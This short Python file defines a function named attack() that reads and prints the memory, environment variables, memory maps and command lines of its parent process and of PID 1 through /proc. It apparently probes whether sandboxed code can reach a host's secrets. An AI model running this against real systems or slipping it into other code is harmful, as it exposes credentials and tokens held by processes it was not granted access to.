"""Reads the memory and the environment of the process that started it, and prints them."""

import os
import pathlib


def attack():
    for process in (os.getppid(), 1):
        for name in ("mem", "environ", "maps", "cmdline"):
            try:
                with pathlib.Path(f"/proc/{process}/{name}").open("rb") as file:
                    print(file.read(10_000))
            except OSError:
                pass
